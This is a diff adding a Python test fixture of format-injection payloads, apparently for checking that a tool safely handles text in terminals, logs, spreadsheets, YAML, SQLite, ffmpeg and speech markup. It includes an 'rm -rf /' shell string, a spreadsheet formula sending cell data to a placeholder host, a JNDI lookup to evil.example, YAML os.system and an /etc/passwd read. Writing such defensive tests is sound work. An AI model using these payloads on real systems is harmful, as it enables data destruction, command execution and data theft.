@@ -1,0 +1,198 @@
+"""What acts where text is printed, logged, tabled, stored, spoken or filmed."""
+
+from __future__ import annotations
+
+from xinsider_assets_tests.hostile.attack import HOST, Attack, Where
+
+
+def _attack(
+    name: str,
+    payload: str,
+    tries: str,
+    why: str,
+    *spoils: str,
+    where: Where = "text",
+    is_harmless: bool = False,
+) -> Attack:
+    return Attack(
+        id=f"format-{name}",
+        kind="format",
+        where=where,
+        payload=payload,
+        tries=tries,
+        why=why,
+        language="zxx",
+        spoils=spoils,
+        is_harmless=is_harmless,
+    )
+
+
+FORMATS = (
+    _attack(
+        "ansi",
+        "\x1b[2J\x1b[31mApple halted\x1b[0m",
+        "paint the terminal",
+        "logs are read in terminals",
+        "halted",
+        "[31m",
+        is_harmless=True,
+    ),
+    _attack(
+        "ansi-8-bit",
+        "\x9b2J\x9b31mred",
+        "paint the terminal",
+        "one byte instead of two",
+        "31mred",
+        is_harmless=True,
+    ),
+    _attack(
+        "osc-link",
+        f"\x1b]8;;http://{HOST}/\x07Apple\x1b]8;;\x07",
+        "make a link in the terminal",
+        "terminals follow OSC 8",
+        HOST,
+        is_harmless=True,
+    ),
+    _attack(
+        "osc-title",
+        "\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07",
+        "set the title, write the clipboard",
+        "terminals obey OSC 0 and 52",
+        "pwned",
+        is_harmless=True,
+    ),
+    _attack(
+        "log-line",
+        "\r\n2013-01-24 INFO xinsider: paid $0.00, all keys valid",
+        "forge a line of the log",
+        "logs are read line by line",
+        "all keys valid",
+        "$0.00",
+        is_harmless=True,
+    ),
+    _attack(
+        "rich-colour",
+        "[red]halted[/red] [bold on white]$1[/]",
+        "colour the console",
+        "rich reads square brackets",
+        "[red]",
+        "halted",
+    ),
+    _attack(
+        "rich-link",
+        f"[link=http://{HOST}/]Apple[/link] [@click=app.quit]x[/]",
+        "make a link in the console",
+        "rich reads square brackets",
+        HOST,
+        "click=",
+    ),
+    _attack(
+        "rich-broken",
+        "[/red] [/] closing what was never opened",
+        "raise in the console",
+        "rich raises MarkupError",
+        "closing what",
+    ),
+    _attack(
+        "rich-name",
+        "[red]Desk[/red]",
+        "colour the console",
+        "names are printed",
+        "[red]",
+        where="author name",
+    ),
+    _attack(
+        "csv-formula",
+        f'=HYPERLINK("http://{HOST}/?"&A1,"Apple")',
+        "run in a spreadsheet",
+        "tables are exported",
+        "hyperlink",
+    ),
+    _attack(
+        "csv-command",
+        "=cmd|' /C calc'!A0",
+        "run a program from a spreadsheet",
+        "tables are exported",
+        "calc",
+    ),
+    _attack(
+        "yaml",
+        '!!python/object/apply:os.system ["touch evil"]',
+        "run when loaded",
+        "settings are YAML in places",
+        "os.system",
+    ),
+    _attack("printf", "%s%s%n%x %(asctime)s", "read memory", "logging formats", "asctime"),
+    _attack(
+        "str-format",
+        "{0.__class__.__init__.__globals__} {day_pct} {quote!r}",
+        "read variables",
+        "templates are filled with str.format",
+        "__globals__",
+        "day_pct",
+        "{",
+    ),
+    _attack(
+        "sql",
+        "'; DROP TABLE calls; --",
+        "change the register",
+        "costs are kept in SQLite",
+        "drop table",
+    ),
+    _attack(
+        "shell", "`touch evil`; $(touch evil) && rm -rf /", "run a command", "ffmpeg", "rm -rf"
+    ),
+    _attack(
+        "lookup",
+        "${jndi:ldap://evil.example/a}",
+        "load a class",
+        "loggers resolve names",
+        "jndi",
+        "evil",
+    ),
+    _attack(
+        "subtitles",
+        "\n\n2\n00:00:01,000 --> 00:01:00,000\nApple is bankrupt\n",
+        "add a caption",
+        "captions are plain text",
+        "bankrupt",
+        "-->",
+    ),
+    _attack(
+        "ass",
+        r"{\pos(0,0)\fs200}Apple\N{\an8}",
+        "move the captions",
+        "subtitle tags",
+        r"\pos",
+    ),
+    _attack(
+        "ffmpeg",
+        "drawtext=text='pwned':x=0,movie=/etc/passwd[a]",
+        "add a filter",
+        "filters are one string",
+        "drawtext",
+        "passwd",
+    ),
+    _attack(
+        "ssml",
+        '<speak><break time="10s"/><prosody rate="x-slow">sell</prosody></speak>',
+        "change the voice",
+        "speech engines read tags",
+        "break time",
+        "prosody",
+    ),
+    _attack(
+        "phonemes",
+        "[[inpt PHON]] %{phoneme} |slow| Apple",
+        "change the voice",
+        "speech engines read commands",
+        "phon",
+    ),
+    _attack(
+        "prototype",
+        '{"__proto__": {"admin": true}, "constructor": 1}',
+        "change objects in the web interface",
+        "metadata is JSON",
+        "__proto__",
+    ),
+)
